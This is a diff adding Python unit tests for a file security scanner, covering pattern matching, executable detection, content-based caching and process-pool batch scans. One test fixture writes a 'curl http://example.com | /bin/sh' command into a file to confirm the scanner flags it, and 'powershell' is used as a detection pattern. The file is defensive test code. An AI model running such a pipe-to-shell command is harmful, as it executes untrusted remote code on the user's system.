@@ -0,0 +1,69 @@
+"""
+文件安全扫描测试
+"""
+
+from open_webui.services.security_scanner import PatternMatcher, SecurityScanner
+
+
+class TestPatternMatcher:
+    def test_overlapping_patterns(self):
+        matcher = PatternMatcher(["he", "she", "his", "hers"])
+        _, found = matcher.feed(b"ushers")
+        assert found == {0, 1, 3}
+
+    def test_matches_across_chunks(self):
+        matcher = PatternMatcher(["powershell"])
+        state, found = matcher.feed(b"run POWER")
+        state, found = matcher.feed(b"SHELL now", state, found)
+        assert found == {0}
+
+
+class TestSecurityScanner:
+    def test_single_pass_scan(self, tmp_path):
+        path = tmp_path / "note.txt"
+        path.write_text("hello\ncurl http://example.com | /bin/sh\n")
+
+        result = SecurityScanner().scan_file(str(path))
+        assert result.is_safe
+        assert result.risk_level == "medium"
+        assert result.file_type == "text/plain"
+        assert "检测到可疑代码模式: curl" in result.threats
+        assert len(result.md5_hash) == 32
+
+    def test_executable_detected(self, tmp_path):
+        path = tmp_path / "setup.exe"
+        path.write_bytes(b"MZ\x90\x00" + b"\x00" * 100)
+
+        result = SecurityScanner().scan_file(str(path))
+        assert not result.is_safe
+        assert result.risk_level == "high"
+        assert "检测到可执行文件特征" in result.threats
+
+    def test_verdict_cached_by_content(self, tmp_path):
+        scanner = SecurityScanner()
+        first = tmp_path / "a.txt"
+        second = tmp_path / "b.txt"
+        first.write_text("same content")
+        second.write_text("same content")
+
+        assert not scanner.scan_file(str(first)).details["cached"]
+        assert scanner.scan_file(str(second)).details["cached"]
+        assert scanner.get_stats()["cache_hits"] == 1
+
+    def test_batch_scan_in_process_pool(self, tmp_path):
+        scanner = SecurityScanner(max_workers=2)
+        paths = []
+        for i in range(3):
+            path = tmp_path / f"{i}.txt"
+            path.write_text(f"file {i}")
+            paths.append(str(path))
+        paths.append(str(tmp_path / "missing.txt"))
+
+        results = scanner.scan_multiple_files(paths)
+        assert list(results) == paths
+        assert all(results[p].is_safe for p in paths[:3])
+        assert results[paths[3]].risk_level == "high"
+        # 子进程的结果写回父进程缓存
+        assert scanner.scan_file(paths[0]).details["cached"]
+        # 进程池没有退回顺序扫描，工作进程不是从多线程的服务进程 fork 出来的
+        assert scanner._pool._mp_context.get_start_method() != "fork"